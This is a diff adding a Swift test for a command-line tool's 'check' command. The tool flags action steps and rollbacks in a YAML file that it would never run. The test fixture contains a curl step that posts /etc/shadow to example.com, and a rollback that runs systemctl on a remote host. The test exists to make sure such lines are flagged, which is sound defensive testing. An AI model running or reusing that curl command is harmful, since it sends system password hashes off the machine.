@@ -81,6 +81,30 @@ import Testing
         }
     }
 
+    @Test("N09: check names a command line that no room would run")
+    func commandsThatAreNeverRun() throws {
+        let home = try TemporaryFolder()
+        try home.write(
+            """
+            environment: dev
+            actions:
+              send:
+                tier: contained
+                risk: low
+                steps: [[/usr/bin/curl, --data, '@/etc/shadow', 'https://example.com']]
+                rollback: [[/usr/bin/true]]
+              far:
+                tier: contained
+                risk: low
+                steps: [[/usr/bin/true]]
+                rollback: [[/usr/bin/systemctl, -H, elsewhere, start, x]]
+            """, to: "w.yaml")
+        let result = try Self.run(["check", home.file("w.yaml")], home)
+        #expect(result.status == 1)
+        #expect(result.output.contains("a step of send is never run"), "\(result.output)")
+        #expect(result.output.contains("the rollback of far is never run"), "\(result.output)")
+    }
+
     @Test func listsDrillsAsJSON() throws {
         let result = try Self.run(["drill", "--list", "--format", "json"], try TemporaryFolder())
         #expect(result.status == 0)
